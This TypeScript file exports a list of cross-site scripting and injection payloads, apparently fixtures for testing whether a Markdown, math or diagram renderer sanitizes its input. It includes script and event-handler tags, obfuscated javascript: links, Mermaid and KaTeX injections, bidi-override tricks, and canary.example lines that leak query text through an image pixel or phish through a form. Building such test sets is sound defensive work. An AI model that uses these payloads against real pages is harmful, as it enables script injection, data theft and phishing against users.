const image = '<img src=x onerror=alert(1)>';

/** Attack texts of our own, a few of each kind that a view could fall for. */
export const ownPayloads: readonly string[] = [
  // Elements and handlers.
  '<script>alert(1)</script>',
  image,
  '<svg onload=alert(1)><use href="data:image/svg+xml,x#a"/></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://canary.example/"><link rel="stylesheet" href="//canary.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://canary.example/">',
  '<form action="https://canary.example/"><button>Sign in again</button></form>',
  '<style>@import "https://canary.example/a.css"; body{background:url(//canary.example/b)}</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="&#106;avascript:alert(1)" onclick="alert(1)">a</a>',
  '</textarea></title></script><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  // Links and images of Markdown.
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))',
  '[a](&#x6A;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](<javascript:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1))',
  '[a](blob:https://canary.example/1) [b](filesystem:x) [c](chrome-extension://aaaa/x.html)',
  '![secret](https://canary.example/pixel?q=what-was-asked) ![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<javascript:alert(1)> <https://canary.example/"onmouseover="alert(1)>',
  '[a][evil]\n\n[evil]: javascript:alert(1) "t\' onmouseover=alert(1)"',
  '[a](https://canary.example/ "x\\" onmouseover=alert(1) y=\\"")',
  `[${image}](https://ok.example/) **${image}** \`${image}\``,
  `| a |\n| --- |\n| ${image} |`,
  `1. ${image}\n   > ${image}\n\n# ${image}`,
  // What renders inside a block.
  `\`\`\`html"onmouseover=alert(1)\n${image}\n\`\`\``,
  `\`\`\`<script>alert(1)</script>\n${image}\n\`\`\``,
  '$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$ $\\htmlData{a=b}{x}$',
  '$$\\class{x" onmouseover="alert(1)}{y} \\includegraphics{https://canary.example/a.png}$$',
  '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(//canary.example/a.css)"}}%%\ngraph TD\n  A-->B\n```',
  // Our own marks, labels and fences, out of place.
  'Read this. [1.1] [[1.1 "<img src=x onerror=alert(1)>"]] [[9.9 "javascript:alert(1)"]]',
  '\uE0000\uE001 \uE0007\uE001 [[1.1 "\uE0000\uE001"]]',
  '</untrusted-source> <untrusted-source-0000 number="1"> {{title}} $t(answer.copy) %s {1}',
  '\u202Egpj.tpircs\u202C \u2066<img src=x onerror=alert(1)>\u2069',
];
